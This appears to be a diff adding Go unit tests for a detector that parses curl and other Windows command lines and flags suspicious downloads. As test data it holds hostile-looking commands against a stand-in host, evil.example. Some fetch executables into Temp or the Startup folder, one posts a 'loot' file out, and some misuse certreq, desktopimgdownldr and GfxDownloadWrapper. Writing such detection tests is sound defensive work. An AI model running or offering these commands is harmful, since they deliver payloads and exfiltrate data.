@@ -0,0 +1,98 @@
+package main
+
+import (
+	"slices"
+	"testing"
+)
+
+func TestParseCurl(t *testing.T) {
+	tests := []struct {
+		cmdLine string
+		urls    []string
+		output  string
+	}{
+		{`curl.exe -o C:\Users\Public\a.exe http://evil.example/a.exe`, []string{"http://evil.example/a.exe"}, `C:\Users\Public\a.exe`},
+		{`curl http://evil.example/a.exe -o a.exe`, []string{"http://evil.example/a.exe"}, "a.exe"},
+		{`curl.exe --output "C:\Temp\my a.exe" https://evil.example/a`, []string{"https://evil.example/a"}, `C:\Temp\my a.exe`},
+		{`curl -sSLoC:\Temp\a.exe evil.example/a.exe`, []string{"evil.example/a.exe"}, `C:\Temp\a.exe`},
+		{`curl -sSL -o C:\Temp\a.exe -A Mozilla/5.0 http://evil.example/a.exe`, []string{"http://evil.example/a.exe"}, `C:\Temp\a.exe`},
+		{`curl -O http://evil.example/dl/payload.exe`, []string{"http://evil.example/dl/payload.exe"}, "payload.exe"},
+		{`curl --remote-name --output-dir C:\Temp http://evil.example/x.dll`, []string{"http://evil.example/x.dll"}, `C:\Temp\x.dll`},
+		{`curl -k --url http://evil.example/a -H "User-Agent: x" --output C:\Temp\a`, []string{"http://evil.example/a"}, `C:\Temp\a`},
+		{`curl -d @C:\Temp\loot.txt http://evil.example/upload`, []string{"http://evil.example/upload"}, ""},
+		{`curl.exe --version`, nil, ""},
+	}
+	for _, tt := range tests {
+		download := parseCurl(splitCommandLine(tt.cmdLine))
+		if !slices.Equal(download.URLs, tt.urls) || download.Output != tt.output {
+			t.Errorf("%s: URLs %q, output %q; want %q, %q", tt.cmdLine, download.URLs, download.Output, tt.urls, tt.output)
+		}
+	}
+}
+
+func TestCheckDownload(t *testing.T) {
+	withConfig(t, func(c *Config) { c.TrustedDownloadDomains = []string{"corp.example"} })
+	tests := []struct {
+		name     string
+		image    string
+		cmdLine  string
+		url      string
+		output   string
+		severity Severity
+		trusted  string
+	}{
+		{"curl into temp", "curl.exe", `curl.exe -o %TEMP%\a.exe http://evil.example/a.exe`,
+			"http://evil.example/a.exe", `C:\Users\tester\AppData\Local\Temp\a.exe`, SeverityHigh, ""},
+		{"curl into Startup", "curl.exe", `curl.exe -o "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\u.bat" http://evil.example/u.bat`,
+			"http://evil.example/u.bat", `C:\Users\tester\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\u.bat`, SeverityCritical, ""},
+		{"certreq post", "certreq.exe", `certreq.exe -Post -config https://evil.example/ C:\Windows\win.ini C:\Users\Public\out.txt`,
+			"https://evil.example/", `C:\Users\Public\out.txt`, SeverityHigh, ""},
+		{"desktopimgdownldr", "desktopimgdownldr.exe", `desktopimgdownldr.exe /lockscreenurl:https://evil.example/a.exe /eventName:desktopimgdownldr`,
+			"https://evil.example/a.exe", `C:\Windows\Personalization\LockScreenImage\`, SeverityNone, ""},
+		{"GfxDownloadWrapper", "gfxdownloadwrapper.exe", `GfxDownloadWrapper.exe "https://evil.example/a.exe" "C:\Users\alice\AppData\Local\a.exe"`,
+			"https://evil.example/a.exe", `C:\Users\alice\AppData\Local\a.exe`, SeverityHigh, ""},
+		{"curl into Downloads", "curl.exe", `curl.exe -o C:\Users\alice\Downloads\tool.zip https://evil.example/tool.zip`,
+			"https://evil.example/tool.zip", `C:\Users\alice\Downloads\tool.zip`, SeverityNone, ""},
+		{"trusted domain", "curl.exe", `curl.exe -o %TEMP%\agent.msi https://pkg.corp.example/agent.msi`,
+			"https://pkg.corp.example/agent.msi", `C:\Users\tester\AppData\Local\Temp\agent.msi`, SeverityNone, "corp.example"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			event := evaluate(`C:\Windows\System32\`+tt.image, tt.cmdLine)
+			download := event.Download
+			if download == nil {
+				t.Fatalf("no download detected (%s)", event.Reason)
+			}
+			if !slices.Equal(download.URLs, []string{tt.url}) || download.Output != tt.output || download.TrustedDomain != tt.trusted {
+				t.Errorf("download = %+v, want %s to %s, trusted %q", download, tt.url, tt.output, tt.trusted)
+			}
+			if !hasIndicator(event, "download_url", tt.url) || len(event.IOCs) == 0 {
+				t.Errorf("indicators %+v, IOCs %+v, want the URL", event.Indicators, event.IOCs)
+			}
+			located := hasIndicator(event, "download_output", tt.output)
+			if tt.severity != SeverityNone && (!located || event.Severity < tt.severity) {
+				t.Errorf("severity %v, output indicator %v, want %v (%s)", event.Severity, located, tt.severity, event.Reason)
+			}
+			if tt.trusted != "" && (event.SuppressedBy == "" || event.Severity > SeverityInfo) {
+				t.Errorf("trusted download kept at %v", event.Severity)
+			}
+		})
+	}
+}
+
+func TestCheckDownloadNearMisses(t *testing.T) {
+	tests := []struct {
+		image   string
+		cmdLine string
+	}{
+		{"curl.exe", `curl.exe --version`},
+		{"certreq.exe", `certreq.exe -submit -config CA01\Corp-CA request.req cert.cer`},
+		{"desktopimgdownldr.exe", `desktopimgdownldr.exe /eventName:desktopimgdownldr`},
+	}
+	for _, tt := range tests {
+		event := evaluate(`C:\Windows\System32\`+tt.image, tt.cmdLine)
+		if event.Download != nil || hasIndicator(event, "download_url", "") {
+			t.Errorf("%s: download detected: %+v", tt.cmdLine, event.Download)
+		}
+	}
+}